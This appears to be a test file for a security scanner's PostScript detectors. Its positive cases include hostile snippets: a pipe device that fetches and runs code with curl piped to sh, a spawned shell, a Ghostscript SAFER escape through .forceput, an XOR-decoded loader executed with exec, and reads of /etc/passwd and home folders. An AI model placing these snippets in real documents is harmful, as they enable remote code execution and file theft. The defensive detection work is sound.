// PostScript that does more than draw, and documents that nearly do.

import assert from 'node:assert/strict'
import { test } from 'node:test'
import { fileFamily } from '../../../src/file/detectors/family.ts'
import { readPostScript } from '../../../src/file/formats/postscript/read.ts'
import { fileFacts } from '../empty-facts.ts'

interface Cases {
  readonly hits: Readonly<Record<string, string>>
  readonly misses: Readonly<Record<string, string>>
}

const CIPHER = Buffer.from(Array.from({ length: 300 }, (_, at) => (at * 37 + 129) & 0xff)).toString('hex')

const CASES: Readonly<Record<string, Cases>> = {
  postscript_runs_command: {
    hits: {
      'the output of a page given to a command':
        'mark /OutputFile (%pipe%curl http://198.51.100.7/a | sh) currentdevice putdeviceprops',
      'the device spelled in hexadecimal': '<2570697065256964> (r) file',
      'a printer, and a shell behind it': '(%pipe%lpr; sh -i) (w) file',
    },
    misses: {
      'a page that writes of pipes': '(the device %pipe is described in the manual) show',
      'input of its own': '(%stdin) (r) file',
      'an ordinary page': '72 720 moveto (Hello) show showpage',
    },
  },
  postscript_leaves_safe_mode: {
    hits: {
      'an inner operator taken from a handler of errors': 'systemdict /SAFER false .forceput',
      'parameters of the safe mode': '<< /LockFilePermissions false /PermitFileReading [(*)] >> setuserparams',
    },
    misses: {
      'an ordinary definition': '/SAFER true def << /PageSize [612 792] >> setpagedevice',
      'a text about it': '(.forceput was removed) show',
    },
  },
  postscript_deciphers_code: {
    hits: {
      'a string taken apart with a key and run': `/s <${CIPHER}> def 0 1 s length 1 sub { s exch dup s exch get 90 xor put } for s cvx exec`,
    },
    misses: {
      'a bar code, which computes with XOR': `/s (${'0123456789'.repeat(60)}) def s 0 get 7 xor pop /draw { s cvx exec } def`,
      'a picture that is turned into its negative': `/s <${CIPHER}> def 0 1 s length 1 sub { s exch 2 copy get 255 xor put } for /draw { exec cvx exec } def`,
      'a picture in hexadecimal': `/s <${CIPHER}> def s show { exec } forall`,
    },
  },
  postscript_opens_files: {
    hits: {
      'the accounts of the system': '(/etc/passwd) (r) file 256 string readstring',
      'all files of a folder': '(/home/*) { = } 256 string filenameforall',
      'a share of another machine': '(\\\\\\\\198.51.100.7\\\\a\\\\b) (r) file',
      'a file of the system removed': '(/etc/hosts) deletefile',
    },
    misses: {
      'a font of the system': '(/usr/share/fonts/type1/a.pfb) (r) file',
      'a procedure set beside it': '(prologue.ps) run',
      'a file of its own, removed when it is done': '(leaf.tmp) deletefile',
      'all fonts of the printer': '(%font%*) { pop } 128 string filenameforall',
      'the program itself': 'currentfile 256 string readline',
    },
  },
}

for (const detector of fileFamily({}, 'postscript')) {
  const { hits, misses } = CASES[detector.id] ?? { hits: {}, misses: {} }
  const judged = (program: string) => {
    const postscript = readPostScript(Buffer.from(`%!PS-Adobe-3.0\n${program}\n`, 'latin1'))
    assert.ok(postscript !== null)
    return detector.detect(fileFacts({ postscript }))
  }
  for (const [name, program] of Object.entries(hits))
    test(`${detector.id} hits: ${name}`, () => {
      const hit = judged(program)
      assert.ok(hit !== null)
      assert.equal(hit.strength ?? 1, 1)
      assert.ok(hit.evidence.length > 0)
    })
  for (const [name, program] of Object.entries(misses))
    test(`${detector.id} misses: ${name}`, () => assert.equal(judged(program), null))
  test(`${detector.id} has a table`, () => {
    assert.ok(Object.keys(hits).length > 0)
    assert.ok(Object.keys(misses).length >= Object.keys(hits).length)
  })
}

test('a prologue that prints weighs little', () => {
  const runs = fileFamily({}, 'postscript').find(({ id }) => id === 'postscript_runs_command')
  const postscript = readPostScript(Buffer.from('%!PS\n(%pipe%lpr -Plaser) (w) file\n', 'latin1'))
  assert.ok(postscript !== null)
  assert.equal(runs?.detect(fileFacts({ postscript }))?.strength, 0.1)
})
